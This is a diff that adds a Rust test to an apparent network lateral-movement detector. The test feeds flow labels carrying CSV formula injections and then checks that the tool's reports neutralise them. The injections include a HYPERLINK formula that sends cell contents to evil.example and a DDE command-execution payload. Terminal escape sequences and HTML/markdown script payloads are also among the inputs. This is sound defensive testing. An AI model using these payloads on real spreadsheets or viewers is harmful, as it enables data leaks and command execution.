@@ -419,3 +419,88 @@ fn g6_a_truth_range_that_ends_before_it_starts_is_refused() {
         "{err}"
     );
 }
+
+#[test]
+fn f1_f2_f3_labels_and_flow_ids_are_harmless_in_every_output() {
+    let dir = tempdir();
+    let rows = lines(&lf_day());
+    let template: Vec<String> = String::from_utf8(rows[1].clone())
+        .unwrap()
+        .split(',')
+        .map(String::from)
+        .collect();
+    let labels = [
+        "=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2)",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\u{1b}[2J\u{1b}]0;pwned\u{7}",
+        "<img src=x onerror=alert(1)> ![p](http://evil.example/t.png) [c](javascript:x) | y",
+    ];
+    let mut text = rows[..rows.len() - 1].join(&b'\n');
+    for i in 0..300 {
+        let mut r = template.clone();
+        r[0] = ["=1+1", "@SUM(A1:A9)", "+1", "-1"][i % 4].into();
+        r[1] = "192.168.50.5".into();
+        r[3] = format!("192.168.10.{}", i % 200 + 1);
+        r[4] = (i % 1000 + 1).to_string();
+        *r.last_mut().unwrap() = format!("\"{}\"", labels[i % labels.len()]);
+        text.push(b'\n');
+        text.extend_from_slice(r.join(",").as_bytes());
+    }
+    text.push(b'\n');
+    let f = write(dir.path(), "inject.csv", &text);
+    let (out, rep) = (dir.path().join("o"), dir.path().join("rep"));
+    let o = latmove(&[
+        "detect",
+        f.to_str().unwrap(),
+        "--no-charts",
+        "--out",
+        out.to_str().unwrap(),
+        "--report",
+        rep.to_str().unwrap(),
+    ]);
+    expect_code(&o, 0);
+    assert!(!o.stdout.contains(&0x1b), "an escape reached the terminal");
+    let mut files: Vec<PathBuf> = vec![out.join("host_scores.csv"), out.join("flagged_hosts.csv")];
+    files.extend(
+        std::fs::read_dir(&rep)
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .filter(|p| p.extension().is_some_and(|e| e == "csv" || e == "md")),
+    );
+    for path in &files {
+        let text = std::fs::read_to_string(path).unwrap();
+        assert!(!text.contains('\u{1b}'), "{path:?}");
+        if path.extension().is_some_and(|e| e == "csv") {
+            let mut r = csv::Reader::from_path(path).unwrap();
+            for rec in r.records() {
+                // Numbers (a feature's -0) are numbers to a spreadsheet too.
+                for cell in rec.unwrap().iter().filter(|c| c.parse::<f64>().is_err()) {
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{path:?}: formula cell {cell:?}"
+                    );
+                }
+            }
+        } else {
+            for bad in ["<img", "![p]", "](javascript", "](http"] {
+                assert!(!text.contains(bad), "{path:?} holds {bad}");
+            }
+        }
+    }
+    // --raw-csv keeps the cells as read, for machine consumers.
+    let raw = dir.path().join("raw");
+    expect_code(
+        &latmove(&[
+            "detect",
+            f.to_str().unwrap(),
+            "--no-charts",
+            "--raw-csv",
+            "--out",
+            raw.to_str().unwrap(),
+        ]),
+        0,
+    );
+    let scores = std::fs::read_to_string(raw.join("host_scores.csv")).unwrap();
+    assert!(scores.contains(",\"=HYPERLINK("), "{scores}");
+}
